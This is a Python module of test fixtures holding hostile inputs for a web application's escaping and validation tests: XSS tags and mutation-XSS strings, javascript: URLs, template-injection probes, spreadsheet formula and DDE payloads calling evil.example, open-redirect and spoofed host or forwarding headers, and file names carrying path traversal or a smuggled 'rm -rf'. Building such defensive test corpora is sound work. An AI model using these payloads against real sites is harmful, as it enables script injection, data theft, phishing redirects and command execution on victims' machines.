"""What people who mean harm type into a field. Every string must come out as the letters it went in as."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<b>đậm</b>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>bấm</a>", "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<form action=//evil.example><input name=password></form>", "<input autofocus onfocus=alert(1)>",
    "<math><mtext></table><img src onerror=alert(1)>", "<style>body{display:none}</style>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example>", "<embed src=//evil.example>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)></video>", "<template><script>1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<select><option></select><script>1</script>",
    "<table background=//evil.example>", "<plaintext>", "<xmp><script>1</script></xmp>", "<!--><script>1</script>-->",
    "<![CDATA[<script>1</script>]]>", "<?php echo 1 ?>", "<%= 7*7 %>", "<<script>alert(1)//<</script>",
    "<script\x0b>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "</textarea><script>1</script>",
    "</title><script>alert(1)</script>", "</style></script><script>1</script>", "</p></div></main></body></html>x",
)  # fmt: skip
"""Tags, whole and broken, and ends of the places where text stands."""
MUTANTS = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph>x",
    "<div id=\"x\" style=\"font-family:'foo'}x=expression(1);/*\">", "<p style=\"background:url(//evil.example)\">",
    "</style><style>*{background:url(//evil.example)}", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a></svg>", "<svg><foreignObject><iframe src=//e.e>",
)  # fmt: skip
"""Markup that a cleaner makes dangerous by mending it, and styles that act."""
QUOTES = (
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>", "'><img src=x onerror=1>",
    "` onclick=alert(1) x=`", "\" style=\"background:url(//evil.example)", "\" autofocus onfocus=alert(1) x=\"",
    "x\" formaction=\"//evil.example", "\\\"><script>1</script>", "&quot;><script>1</script>",
)  # fmt: skip
"""Ways out of an attribute."""
WORDS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "//evil.example", "https://evil.example", "[x](javascript:alert(1))",
    "![x](//evil.example/a.png)", "{{7*7}}", "{{ config.SECRET_KEY }}", "{% raw %}{{1}}", "${7*7}", "#{7*7}", "%(n)s",
    "%s%s%s%n", "{0.__class__}", "&lt;script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "%3Cscript%3E",
    "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-", "=HYPERLINK(\"//evil.example\")", "@import '//evil.example';",
    "expression(alert(1))", "|safe", "\u202ecod.exe", "a\u200bb<i>", "\ufeff<u>x</u>", "<\u0130mg>", "\u2028<s>x</s>",
)  # fmt: skip
"""Addresses, markdown, templates, formats, and letters that are not what they look like."""
CORPUS = (*MARKUP, *MUTANTS, *QUOTES, *WORDS)
NAMES = (
    "<img src=x onerror=alert(1)>.jpg", "\"><script>1</script>.jpg", "a\r\nSet-Cookie: a=b.jpg", "{{7*7}}.jpg",
    "../../etc/passwd.jpg", "\u202egpj.exe.jpg", "a\u200b.html.jpg", "x.jpg.php", ".htaccess", "con; rm -rf.jpg",
)  # fmt: skip
"""Names of files."""
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\t@SUM(1)", "\r\n+1", "  -1+1", " =1+1",
    "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1+1",
    '=HYPERLINK("//evil.example";"bấm")', '=hyperlink("//evil.example")', '@HYPERLINK("//evil.example")',
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML("//evil.example","//a")', '=WEBSERVICE("//evil.example")', '=DDE("cmd";"/C calc";"x")',
    '"=1+1"', "'=1+1", ";=1+1", "a;=1+1", 'a";=1+1;"', "a\n=1+1", "%0A=1+1", "=1+1\";=2", "−1+1",
)  # fmt: skip
"""What a spreadsheet would compute, fetch or start, and ways into the next cell."""
REDIRECTS = (
    "//evil.example", "https://evil.example", "https:evil.example", "http:///evil.example", "/\\evil.example",
    "\\\\evil.example", "/\t/evil.example", "\t//evil.example", " //evil.example", "/\n/evil.example", "javascript:1",
    "///evil.example", "/%0d%0aLocation:x\r\n", "evil.example", "//localhost@evil.example", "/\u2028/evil.example",
    "data:text/html,x", "\x00//evil.example", "http://localhost", "", "/\\/evil.example", "\\/evil.example",
    "http:evil.example", "HTTPS://EVIL.EXAMPLE", "//evil.example/%2e%2e", "//evil。example", "/ /evil.example",
    "https://localhost@evil.example", "https://localhost.evil.example", "////evil.example", "vbscript:x",
    "http://[::1]", "//[evil", "/\u0000/evil.example",
)  # fmt: skip
"""Where a reader must not be sent."""
ENCODED = ("/%2f%2fevil.example", "/%5cevil.example", "/.//evil.example", "/..//evil.example", "/%09/evil.example",
           "/%2fevil.example", "/%252f%252fevil.example", "/;//evil.example", "/?//evil.example")  # fmt: skip
"""Targets that stay paths of ours, however often they are decoded."""
HOSTS = (
    "evil.example", "localhost.evil.example", "localhost@evil.example", "evil.example:80", "localhost:80@evil.example",
    "localhost/evil.example", "localhost?evil.example", "localhost#evil.example", "localhost\\evil.example",
    "localhost evil.example", "localhost,evil.example", "evil.example#localhost", "xlocalhost",
    "127.0.0.1.evil.example", "169.254.169.254", "[::1]", "0", "evil.example.", "evil。example", "\u212aocalhost",
    "localhost:evil.example",
)  # fmt: skip
"""Names we do not go by: refused with 400."""
FORWARDED: tuple[dict[str, str], ...] = (
    {"X-Forwarded-Host": "evil.example"}, {"X-Forwarded-Host": "localhost, evil.example"},
    {"X-Forwarded-Server": "evil.example"}, {"X-Host": "evil.example"}, {"X-HTTP-Host-Override": "evil.example"},
    {"Forwarded": "host=evil.example;proto=https;for=6.6.6.6"}, {"X-Forwarded-Proto": "https"},
    {"X-Forwarded-Proto": "evil.example"}, {"X-Forwarded-Scheme": "https"}, {"X-Forwarded-Port": "6666"},
    {"X-Forwarded-Prefix": "//evil.example"}, {"X-Script-Name": "//evil.example"}, {"X-Forwarded-For": "evil.example"},
    {"X-Forwarded-For": "127.0.0.1"}, {"X-Real-IP": "127.0.0.1"}, {"CF-Connecting-IP": "<b>evil.example"},
    {"True-Client-IP": "127.0.0.1"}, {"X-Original-URL": "/desk/"}, {"X-Rewrite-URL": "/desk/"},
    {"X-Original-Host": "evil.example"}, {"X-HTTP-Method-Override": "DELETE"}, {"X-Method-Override": "POST"},
    {"X-HTTP-Method": "POST"}, {"Remote-User": "head@unit"}, {"X-Remote-User": "head@unit"},
    {"X-Forwarded-User": "head@unit"}, {"X-WEBAUTH-USER": "head@unit"}, {"Referer": "https://evil.example/"},
)  # fmt: skip
"""Heads that a proxy might write, written by somebody who is none: not listened to."""
HEADS: tuple[dict[str, str], ...] = tuple(
    {name: words} for words in ("<script>alert(1)</script>", "\"><img src=//evil.example onerror=alert(1)>", "{{7*7}}")
    for name in ("User-Agent", "Referer", "Accept-Language", "X-Request-ID", "X-Forwarded-For", "Cookie", "Accept")
)  # fmt: skip
"""Markup in heads that browsers send."""
SIZES = {"CORPUS": 60, "FORMULAS": 30, "REDIRECTS": 20, "HOSTS": 20, "FORWARDED": 20}
"""How many of each issue 7 wants at least."""
